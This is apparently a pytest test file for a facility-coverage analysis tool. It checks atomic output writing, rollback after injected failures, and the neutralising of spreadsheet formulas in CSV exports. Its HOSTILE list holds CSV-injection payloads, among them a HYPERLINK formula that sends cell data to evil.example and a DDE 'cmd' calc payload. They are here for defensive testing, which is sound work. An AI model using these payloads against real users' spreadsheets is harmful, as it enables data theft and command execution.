"""Output sets are all-or-nothing, refusals come before any work, and CSV tables are safe to
open in a spreadsheet without losing coordinates.

Failures are injected into the *last* writer of each command (the report, the map); the
destination must then be exactly as before: no new file, no changed byte, no staging folder.
"""

from __future__ import annotations

import csv
import hashlib
import io
import os
from pathlib import Path

import pandas as pd
import pytest

import coverage.publish.audit_package
import coverage.publish.report
from coverage.cli.commands import main
from coverage.errors import OutputExistsError
from coverage.publish.atomic import OutputSet, check_outputs, output_set, writes_output_set
from coverage.publish.tables import csv_text, neutralise_formula

DATA = Path(__file__).resolve().parents[1] / "data" / "model_county"


def _snapshot(root: Path) -> dict[str, str]:
    """Every file and folder under ``root`` (hidden ones included) with its content hash."""
    out = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for d in dirnames:
            out[os.path.relpath(Path(dirpath) / d, root) + "/"] = "dir"
        for f in filenames:
            p = Path(dirpath) / f
            out[os.path.relpath(p, root)] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


class Boom(OSError):
    """The injected failure (a subclass of OSError, like a full disk)."""


def _fail_after(real):
    def wrapper(*args, **kwargs):
        real(*args, **kwargs)
        raise Boom(28, "No space left on device (injected)")

    return wrapper


# --------------------------------------------------------------------------- the mechanism
def test_output_set_commits_all_or_nothing(tmp_path: Path) -> None:
    out = tmp_path / "out"
    with output_set([out], overwrite=False) as stage:
        stage.path(out / "a.csv").write_text("a")
        stage.path(out / "sub" / "b.csv").write_text("b")
        assert not out.exists()  # nothing in place before the end
    assert (out / "a.csv").read_text() == "a" and (out / "sub" / "b.csv").read_text() == "b"
    before = _snapshot(tmp_path)
    with pytest.raises(RuntimeError):
        with output_set([out], overwrite=True) as stage:
            stage.path(out / "a.csv").write_text("new")
            stage.path(out / "c.csv").write_text("c")
            raise RuntimeError("the last writer failed")
    assert _snapshot(tmp_path) == before


def test_commit_refuses_before_moving_anything(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "b.csv").write_text("old b")
    before = _snapshot(tmp_path)
    with pytest.raises(OutputExistsError, match=r"b\.csv: the output file exists already.*--overwrite"):
        with output_set([out], overwrite=False) as stage:
            stage.path(out / "a.csv").write_text("a")  # sorted first: would move first
            stage.path(out / "b.csv").write_text("b")
    assert _snapshot(tmp_path) == before


def test_commit_rolls_back_when_a_move_fails(tmp_path: Path, monkeypatch) -> None:
    out = tmp_path / "out"
    out.mkdir()
    for name in ("a.csv", "b.csv", "c.csv"):
        (out / name).write_text(f"old {name}")
    before = _snapshot(tmp_path)
    real_replace = os.replace
    calls = {"n": 0}

    def flaky(src, dst):
        if Path(dst).name == "c.csv" and "staging" in str(src):
            raise Boom(5, "input/output error (injected)")
        calls["n"] += 1
        return real_replace(src, dst)

    s = OutputSet([out], overwrite=True)
    for name in ("a.csv", "b.csv", "c.csv", "d.csv"):
        s.path(out / name).write_text(f"new {name}")
    monkeypatch.setattr(os, "replace", flaky)
    with pytest.raises(Boom):
        s.commit()
    monkeypatch.setattr(os, "replace", real_replace)
    assert calls["n"] > 2  # a and b had been moved before c failed
    assert _snapshot(tmp_path) == before


def test_nested_sets_and_links_hold(tmp_path: Path) -> None:
    @writes_output_set("out_dir")
    def writer(out_dir, *, overwrite=False):
        Path(out_dir).mkdir(parents=True, exist_ok=True)
        p = Path(out_dir) / "x.txt"
        p.write_text(str(Path(out_dir)))
        return {"x": p}

    out = tmp_path / "o"
    with output_set([out], overwrite=False) as outer:
        paths = writer(outer.path(out))
        assert Path(paths["x"]).is_file()  # committed into the outer staging folder
        assert not out.exists()
    assert (out / "x.txt").is_file()
    assert outer.final(paths["x"]) == out / "x.txt"
    assert writer(tmp_path / "p")["x"] == tmp_path / "p" / "x.txt"


def test_check_outputs_counts_and_names(tmp_path: Path) -> None:
    (tmp_path / "a").write_text("")
    (tmp_path / "b").write_text("")
    with pytest.raises(OutputExistsError, match=r"a: the output file exists already \(and 1 more output files\)"):
        check_outputs([tmp_path / "a", tmp_path / "b", tmp_path / "new" / "c"], overwrite=False)
    check_outputs([tmp_path / "a"], overwrite=True)
    with pytest.raises(IsADirectoryError):
        check_outputs([tmp_path], overwrite=True)


# --------------------------------------------------------------------------- the CLI
def _cli(argv: list[str], capsys) -> tuple[int, str, str]:
    code = main(argv)
    cap = capsys.readouterr()
    return code, cap.out, cap.err


def test_audit_failure_in_last_writer_leaves_nothing(tmp_path: Path, monkeypatch, capsys) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(coverage.publish.audit_package, "write_report", _fail_after(coverage.publish.audit_package.write_report))
    code, _out, err = _cli(["audit", "--quiet", "--report", "--out", "o/audit", "--map", "maps/m.html"], capsys)
    assert code == 2 and err.count("error:") == 1 and "Nothing was written" in err
    assert "Traceback" not in err
    assert sorted(os.listdir(tmp_path)) == []  # not even the folders


def test_audit_overwrite_failure_keeps_previous_outputs(tmp_path: Path, monkeypatch, capsys) -> None:
    monkeypatch.chdir(tmp_path)
    assert _cli(["audit", "--quiet", "--out", "o", "--map", "o/map.html"], capsys)[0] == 0
    before = _snapshot(tmp_path)
    assert "o/map.html" in before and "o/demand.csv" in before
    monkeypatch.setattr(coverage.publish.audit_package, "save_map", _fail_after(coverage.publish.audit_package.save_map))
    code, _out, err = _cli(["audit", "--quiet", "--overwrite", "--speed", "0.6", "--out", "o", "--map", "o/map.html"], capsys)
    assert code == 2 and "injected" in err
    assert _snapshot(tmp_path) == before


def test_refusals_come_before_any_work(tmp_path: Path, monkeypatch, capsys) -> None:
    monkeypatch.chdir(tmp_path)
    assert _cli(["audit", "--quiet", "--out", "o", "--map", "o/map.html"], capsys)[0] == 0
    before = _snapshot(tmp_path)

    def no_work(*args, **kwargs):
        raise AssertionError("the analysis ran although the command is refused")

    monkeypatch.setattr("coverage.audit.run.run_audit", no_work)
    monkeypatch.setattr("coverage.datasets.model_county.model_county", no_work)
    code, _out, err = _cli(["audit", "--quiet", "--out", "o", "--map", "o/map.html"], capsys)
    assert code == 2 and "exists already" in err and "--overwrite" in err
    code, _out, err = _cli(["audit", "--quiet", "--overwrite", "--basemap", "tianditu", "--out", "o", "--map", "o/map.html"], capsys)
    assert code == 2 and "--tianditu-key" in err
    code, _out, err = _cli(["audit", "--quiet", "--overwrite", "--speed", "-1", "--out", "o", "--map", "o/map.html"], capsys)
    assert code == 2 and err.count("error:") == 1
    assert _snapshot(tmp_path) == before


def test_site_tianditu_without_key_writes_nothing(tmp_path: Path, monkeypatch, capsys) -> None:
    monkeypatch.chdir(tmp_path)
    code, _out, err = _cli(["site", "--quiet", "--basemap", "tianditu", "--k", "2", "--out", "s"], capsys)
    assert code == 2 and "--tianditu-key" in err
    assert os.listdir(tmp_path) == []


@pytest.mark.parametrize("command", ["review", "makeup", "villages", "consolidate", "targets"])
def test_workflow_all_or_nothing(command: str, tmp_path: Path, monkeypatch, capsys) -> None:
    monkeypatch.chdir(tmp_path)
    extra = ["--no-optimum"] if command == "consolidate" else []
    # a failure in the last writer of a first run: nothing at all
    real = coverage.publish.report.write_excel
    monkeypatch.setattr(coverage.publish.report, "write_excel", _fail_after(real))
    code, _out, err = _cli([command, "--quiet", "--out", "w", *extra], capsys)
    assert code == 2 and "injected" in err, err
    assert os.listdir(tmp_path) == []
    monkeypatch.setattr(coverage.publish.report, "write_excel", real)
    # a good run, then a refused one (before any work) and a failed overwrite: unchanged
    assert _cli([command, "--quiet", "--out", "w", *extra], capsys)[0] == 0
    before = _snapshot(tmp_path)
    code, _out, err = _cli([command, "--quiet", "--out", "w", *extra], capsys)
    assert code == 2 and "exists already" in err
    monkeypatch.setattr(coverage.publish.report, "write_excel", _fail_after(real))
    code, _out, err = _cli([command, "--quiet", "--overwrite", "--out", "w", *extra], capsys)
    assert code == 2 and "injected" in err
    assert _snapshot(tmp_path) == before


def test_data_command_is_all_or_nothing(tmp_path: Path, capsys) -> None:
    assert _cli(["data", str(tmp_path / "d")], capsys)[0] == 0
    before = _snapshot(tmp_path)
    code, _out, err = _cli(["data", str(tmp_path / "d")], capsys)
    assert code == 2 and "--overwrite" in err
    assert _snapshot(tmp_path) == before


# --------------------------------------------------------------------------- CSV safety
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1", "\r=2"]


def test_neutralise_formula_rule() -> None:
    for text in HOSTILE:
        assert neutralise_formula(text) == "'" + text
    for safe in ("城东社区", "R001", "a=b", "", "1.5"):
        assert neutralise_formula(safe) == safe
    assert neutralise_formula(-2.5) == -2.5


def test_csv_text_neutralises_cells_and_headers_keeps_numbers() -> None:
    df = pd.DataFrame({"name": HOSTILE, "=cmd": ["x"] * len(HOSTILE), "dist_m": [-1.23456] * len(HOSTILE)})
    rows = list(csv.reader(io.StringIO(csv_text(df), newline="")))
    assert rows[0] == ["name", "'=cmd", "dist_m"]
    # a carriage return inside a cell becomes a line feed (quoted), so rows stay rows
    assert [r[0] for r in rows[1:]] == [("'" + t).replace("\r", "\n") for t in HOSTILE]
    assert {r[2] for r in rows[1:]} == {"-1.235"}  # numbers stay numbers


def test_audit_csv_formulas_and_full_precision(tmp_path: Path, capsys) -> None:
    fac = pd.read_csv(DATA / "facilities.csv", dtype=str, encoding="utf-8-sig")
    dem = pd.read_csv(DATA / "demand.csv", dtype=str, encoding="utf-8-sig")
    fac.loc[0, "名称"] = HOSTILE[0]
    fac.loc[1, "名称"] = "@SUM(A1:A9)"
    dem.loc[0, "名称"] = "-2+3"
    dem.loc[1, "名称"] = "+cmd"
    fac.to_csv(tmp_path / "f.csv", index=False)
    dem.to_csv(tmp_path / "d.csv", index=False)
    out = tmp_path / "o"
    code, _o, err = _cli(["audit", "--quiet", "--network", str(DATA / "roads.osm"), "--facilities", str(tmp_path / "f.csv"),
                          "--demand", str(tmp_path / "d.csv"), "--out", str(out), "--map", str(out / "m.html")], capsys)  # fmt: skip
    assert code == 0, err
    for name in os.listdir(out):
        if not name.endswith(".csv"):
            continue
        with open(out / name, encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
                    if cell.startswith("-"):
                        float(cell)  # only numbers may start with a minus sign
    d = pd.read_csv(out / "demand.csv", encoding="utf-8-sig", dtype={"id": str})
    f = pd.read_csv(out / "facilities.csv", encoding="utf-8-sig", dtype={"id": str})
    assert d.loc[d.id == dem.loc[0, "编号"], "name"].item() == "'-2+3"
    assert f.loc[f.id == fac.loc[0, "编号"], "name"].item() == "'" + HOSTILE[0]
    assert (f["facility_name"] if "facility_name" in f else d["facility_name"]).str.startswith("=").sum() == 0
    # coordinates at full precision in every point table
    for table, src in ((d, dem), (f, fac)):
        src = src[["编号", "经度", "纬度"]].set_axis(["id", "src_lon", "src_lat"], axis=1)
        merged = table.merge(src, on="id")
        assert len(merged) == len(src)
        assert (merged["lon_wgs84"] - merged["src_lon"].astype(float)).abs().max() < 1e-9
        assert (merged["lat_wgs84"] - merged["src_lat"].astype(float)).abs().max() < 1e-9
